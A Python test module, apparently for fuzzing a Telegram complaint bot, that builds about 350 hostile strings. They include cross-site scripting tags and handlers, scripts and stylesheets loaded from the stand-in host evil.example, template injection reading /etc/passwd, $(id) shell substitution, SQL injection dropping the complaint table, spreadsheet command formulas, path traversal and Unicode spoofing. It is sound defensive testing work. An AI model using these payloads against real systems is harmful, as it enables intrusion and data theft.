"""Words typed so that they run, pass for something else, or break what shows them."""

from __future__ import annotations

import random
import unicodedata

_RUN = "alert(1)"
_BREAKS = ("", '">', "'>", "</p>", "</textarea>", "</title>", "</script>", "-->", "]]>", "`>")
"""What gets out of where a text may stand."""
_TAGS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<iframe srcdoc='<script>{_RUN}</script>'>",
    f"<iframe src=javascript:{_RUN}>",
    f"<a href=javascript:{_RUN}>看</a>",
    f"<a href='java&#115;cript:{_RUN}'>看</a>",
    f"<math><mi xlink:href=javascript:{_RUN}>",
    f"<object data=javascript:{_RUN}>",
    f"<form action=javascript:{_RUN}><button>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<base href=//evil.example/>",
    f"<style>@import '//evil.example/x.css';</style><style onload={_RUN}>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<div hx-on:load='{_RUN}' hx-get=/console hx-trigger=load>",
    f"<div hx-vals='js:x:{_RUN}' sse-connect=//evil.example>",
    "<plaintext>",
    "<!--",
)
_OTHERS = (
    # Attributes and scripts that a text may stand in.
    *(f'" onmouseover="{_RUN}', f"' onfocus='{_RUN}' autofocus='", f"';{_RUN}//", f'";{_RUN}//'),
    *(f"\\';{_RUN}//", "${alert`1`}", f"javascript:{_RUN}"),
    f"data:text/html,<script>{_RUN}</script>",
    # Templates and formats.
    *("{{7*7}}", "{{ self.__init__.__globals__ }}", "{% include '/etc/passwd' %}", "${7*7}"),
    *("#{7*7}", "<%= 7*7 %>", "{reference}", "{0.__class__}", "%s%s%n", "%(token)s"),
    *("$(id)", "`id`"),
    # Telegram's marks.
    *("<b>粗", "</b></i>", "<a href='tg://user?id=1'>管理员</a>", "<tg-spoiler>藏</tg-spoiler>"),
    *("[看](tg://user?id=1)", "*粗* _斜_ ~删~ ||藏||", "```代码", "<pre><code class='x'>"),
    *("&lt;b&gt;", "&amp;amp;", "&#60;script&#62;", "&nbsp", "&#x202E;"),
    *("/ban #1 x", "@everyone", "/start x"),
    # Spreadsheets, databases, shells, logs, paths.
    *('=HYPERLINK("http://evil.example","看")', "=cmd|' /C calc'!A0", "+1+1", "-1+1"),
    *("@SUM(1+1)", "＝1+1", "'; DROP TABLE complaint; --", "' OR '1'='1", "%' ESCAPE '"),
    *("\\", "_%_%", '"a" NEAR "b"', "\x1b[2J\x1b]0;x\x07", "\x1b[31m红\x1b[0m"),
    *("../../../etc/passwd", "..\\..\\x", "file:///etc/passwd"),
    # Signs that turn, hide or pile up.
    *("\u202eFJ-20231106-0001\u202c", "\u2066看\u2069", "a\u200bb\u200cc\u200dd\ufeffe", "\u00adx"),
    *(
        "е\u0301" * 3,
        "Z" + "\u0335\u0321" * 12,
        "ﷺ",
        "ＪＦ－２０２３",
        "\ufffd\ufffe",
        "\U0010ffff",
    ),
    *("👨\u200d👩\u200d👧\u200d👦", "🇨🇳🏴\U000e0067\U000e0062\U000e007f", "ß→SS İ→i̇", "x" * 60),
)


def hostile() -> list[str]:
    """Give some three hundred and fifty lines, each once; none has a line's end or what NUL is."""
    from_within = [start + tag for start in _BREAKS for tag in _TAGS]
    return list(dict.fromkeys([*from_within, *_OTHERS]))


def generated(count: int, seed: int = 20231106) -> list[str]:
    """Make up lines of any signs, many of them markup."""
    dice = random.Random(seed)
    return [_line(dice) for _ in range(count)]


def _line(dice: random.Random) -> str:
    signs = [_sign(dice) for _ in range(dice.randrange(5, 40))]
    return f"：{''.join(signs)}："


def _sign(dice: random.Random) -> str:
    if dice.random() < 0.4:
        return dice.choice("<>&\"'`=/;:(){}[]#%\\-!")
    while True:
        sign = chr(dice.choice((dice.randrange(32, 127), dice.randrange(160, 0x2FFFF))))
        # Half of a pair is no sign; what ends a line is none within one.
        if unicodedata.category(sign) not in {"Cs", "Cn", "Zl", "Zp", "Cc"}:
            return sign


def parcels(lines: list[str], size: int) -> list[str]:
    """Join lines to texts of at most so many UTF-16 units, as Telegram counts."""
    found = [""]
    for line in lines:
        if len(f"{found[-1]}{line}".encode("utf-16-le")) // 2 >= size:
            found.append("")
        found[-1] += ("\n" if found[-1] else "") + line
    return found
